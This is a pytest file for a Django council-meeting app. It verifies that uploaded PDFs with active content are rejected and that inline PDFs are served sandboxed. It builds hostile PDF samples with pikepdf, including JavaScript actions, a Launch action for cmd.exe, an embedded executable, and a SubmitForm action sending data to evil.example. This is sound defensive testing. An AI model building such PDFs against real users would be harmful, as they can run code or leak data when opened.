"""Issue 24, item 4: PDFs with active content anywhere are refused (in Korean, naming
what was found) for meeting materials and progress-note attachments; PDFs shown in
the browser come with a sandboxing Content-Security-Policy and nosniff.

Each hostile PDF is built here with pikepdf, the way the probe built them."""

from __future__ import annotations

import io

import pikepdf
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from pikepdf import Array, Dictionary, Name, String

from council.models import Attachment
from proposals.models import CommitmentStatus
from tests import factories
from tests.factories import make_draft_meeting, make_open_meeting, make_proposal


def _js(code="app.alert(1)"):
    return Dictionary(Type=Name.Action, S=Name.JavaScript, JS=String(code))


def _build(change) -> bytes:
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(595, 842))
    change(pdf)
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def _page_aa(pdf):
    pdf.pages[0].obj["/AA"] = Dictionary(O=_js())


def _link(pdf, action):
    pdf.pages[0].obj["/Annots"] = Array(
        [Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 100, 100], A=action)]
    )


def _link_js(pdf):
    _link(pdf, _js())


def _form_field(pdf):
    widget = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Widget,
            FT=Name.Tx,
            T=String("name"),
            Rect=[0, 0, 100, 20],
            AA=Dictionary(K=_js("event.value")),
        )
    )
    pdf.pages[0].obj["/Annots"] = Array([widget])
    pdf.Root.AcroForm = Dictionary(Fields=Array([widget]))


def _chained_after_open_action(pdf):
    pdf.Root.OpenAction = Dictionary(S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.Fit]), Next=_js())


def _launch(pdf):
    pdf.Root.OpenAction = Dictionary(S=Name.Launch, F=String("cmd.exe"))


def _embedded_exe(pdf):
    attachment = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00 a program", filename="setup.exe")
    pdf.attachments["setup.exe"] = attachment


def _xfa(pdf):
    pdf.Root.AcroForm = Dictionary(
        Fields=Array([]), XFA=pdf.make_stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>")
    )


def _rich_media(pdf):
    pdf.pages[0].obj["/Annots"] = Array(
        [
            Dictionary(
                Type=Name.Annot,
                Subtype=Name.RichMedia,
                Rect=[0, 0, 100, 100],
                RichMediaContent=Dictionary(),
            )
        ]
    )


def _submit_form(pdf):
    _link(pdf, Dictionary(S=Name.SubmitForm, F=String("https://evil.example/")))


def _import_data(pdf):
    _link(pdf, Dictionary(S=Name.ImportData, F=String("data.fdf")))


def _goto_e(pdf):
    _link(pdf, Dictionary(S=Name.GoToE, T=Dictionary(R=Name.C, N=String("a.pdf"))))


def _names_javascript(pdf):
    pdf.Root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array([String("x"), pdf.make_indirect(_js())]))
    )


HOSTILE_PDFS = {
    "page_aa_javascript": (_page_aa, "JavaScript"),
    "link_javascript": (_link_js, "JavaScript"),
    "form_field_javascript": (_form_field, "JavaScript"),
    "javascript_after_open_action": (_chained_after_open_action, "JavaScript"),
    "names_javascript": (_names_javascript, "JavaScript"),
    "launch": (_launch, "다른 프로그램 실행(Launch)"),
    "embedded_exe": (_embedded_exe, "첨부 파일"),
    "xfa": (_xfa, "XFA 양식"),
    "rich_media": (_rich_media, "RichMedia"),
    "submit_form": (_submit_form, "양식 내용 보내기(SubmitForm)"),
    "import_data": (_import_data, "데이터 가져오기(ImportData)"),
    "goto_e": (_goto_e, "첨부 문서 열기(GoToE)"),
}


def _upload_material(client, meeting, content):
    item = meeting.agenda_items.get()
    url = reverse("council:attachment_add", args=["geumjeong", meeting.slug, item.pk])
    return client.post(url, {"file": SimpleUploadedFile("자료.pdf", content)}, follow=True)


@pytest.mark.parametrize("kind", sorted(HOSTILE_PDFS))
def test_meeting_materials_with_active_content_are_refused(client, world, kind):
    change, named = HOSTILE_PDFS[kind]
    meeting = make_draft_meeting(world.council)
    client.force_login(world.staff)
    html = _upload_material(client, meeting, _build(change)).content.decode()
    assert "열면 실행되거나 다른 파일을 여는 내용이 있어 올릴 수 없습니다" in html
    assert named in html
    assert not Attachment.objects.exists()


@pytest.mark.parametrize("kind", ["link_javascript", "launch", "embedded_exe", "xfa"])
def test_progress_note_attachments_with_active_content_are_refused(client, world, kind):
    change, named = HOSTILE_PDFS[kind]
    meeting = factories.make_closed_meeting(world.council, invite=[world.member])
    commitment = factories.make_commitment(make_proposal(meeting, department=world.department))
    status = CommitmentStatus.objects.get(council=world.council, name="추진 중")
    client.force_login(world.reviewer)
    response = client.post(
        reverse("proposals:commitment_detail", args=["geumjeong", commitment.pk]),
        {
            "version": 1,
            "status": status.pk,
            "note_date": "2024-03-04",
            "note_text": "착공",
            "attachment": SimpleUploadedFile("착공.pdf", _build(change)),
        },
    )
    html = response.content.decode()
    assert named in html and "올릴 수 없습니다" in html
    assert not commitment.notes.exists()


def test_a_plain_pdf_with_links_and_a_form_is_accepted(client, world):
    def plain(pdf):
        _link(pdf, Dictionary(S=Name.URI, URI=String("https://www.geumjeong.go.kr/")))
        pdf.Root.AcroForm = Dictionary(Fields=Array([]))
        pdf.Root.OpenAction = Dictionary(S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.Fit]))

    meeting = make_draft_meeting(world.council)
    client.force_login(world.staff)
    html = _upload_material(client, meeting, _build(plain)).content.decode()
    assert "자료를 첨부했습니다" in html
    assert Attachment.objects.count() == 1


def test_an_inline_pdf_is_sandboxed_and_not_sniffed(client, world):
    meeting = make_open_meeting(world.council, invite=[world.member])
    attachment = factories.make_attachment(meeting)
    client.force_login(world.member.user)
    url = reverse("council:attachment_download", args=["geumjeong", meeting.slug, attachment.pk])
    shown = client.get(url, {"view": "1"})
    assert shown.status_code == 200
    assert shown["Content-Disposition"].startswith("inline")
    policy = shown["Content-Security-Policy"]
    assert policy.startswith("sandbox;") and "default-src 'none'" in policy
    assert shown["X-Content-Type-Options"] == "nosniff"
